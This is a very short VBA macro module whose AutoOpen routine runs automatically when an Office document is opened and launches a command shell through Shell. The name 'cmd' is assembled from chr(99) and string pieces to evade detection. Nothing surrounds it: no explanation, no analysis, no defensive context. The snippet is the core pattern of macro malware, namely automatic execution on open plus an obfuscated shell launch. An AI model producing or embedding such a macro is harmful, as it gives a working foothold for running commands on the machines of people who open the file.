Attribute VB_Name = "x"
Sub AutoOpen()
Shell chr(99) & "m" & "d"
End Sub
